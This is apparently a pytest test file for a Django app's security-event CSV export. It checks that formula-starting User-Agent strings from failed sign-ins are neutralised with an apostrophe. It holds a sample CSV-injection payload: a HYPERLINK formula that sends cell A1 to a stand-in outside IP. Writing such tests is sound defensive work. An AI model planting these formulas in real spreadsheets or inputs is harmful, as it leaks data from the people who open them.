"""Issue 19, "CSV export": text anyone can put into an audit row (the User-Agent of a failed sign-in) must not
become a spreadsheet formula in the export (OWASP CSV injection)."""

import csv
import io

import pytest
from django.test import Client

from security.models import SecurityEvent
from tests.factories import UserFactory

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def export(helpdesk_client, events) -> list[list[str]]:
    response = helpdesk_client.post(
        "/admin/security/securityevent/", {"action": "export_csv", "_selected_action": [e.pk for e in events]}
    )
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_user_agent_from_a_failed_sign_in_cannot_start_a_formula(helpdesk_client, start):
    victim = UserFactory(email="victim@example.com")
    user_agent = f'{start}HYPERLINK("http://203.0.113.9/?"&A1,"Click")'
    Client(HTTP_USER_AGENT=user_agent).post("/account/sign-in/", {"username": victim.email, "password": "wrong"})
    event = SecurityEvent.objects.get(user=victim, kind="account.sign_in_failed")
    assert event.user_agent.startswith(start)  # stored as sent

    header, row = export(helpdesk_client, [event])
    cell = row[header.index("user_agent")]
    assert cell == "'" + event.user_agent  # kept whole, readable, and inert
    for value in row:
        assert not value.startswith(tuple(FORMULA_STARTS)), value


def test_ordinary_cells_are_left_alone(helpdesk_client):
    victim = UserFactory(email="zhou@example.com")
    Client(HTTP_USER_AGENT="Mozilla/5.0 (Windows NT 10.0)").post(
        "/account/sign-in/", {"username": victim.email, "password": "wrong"}
    )
    event = SecurityEvent.objects.get(user=victim)
    header, row = export(helpdesk_client, [event])
    assert row[header.index("user_agent")] == "Mozilla/5.0 (Windows NT 10.0)"
    assert row[header.index("user")] == "zhou@example.com"
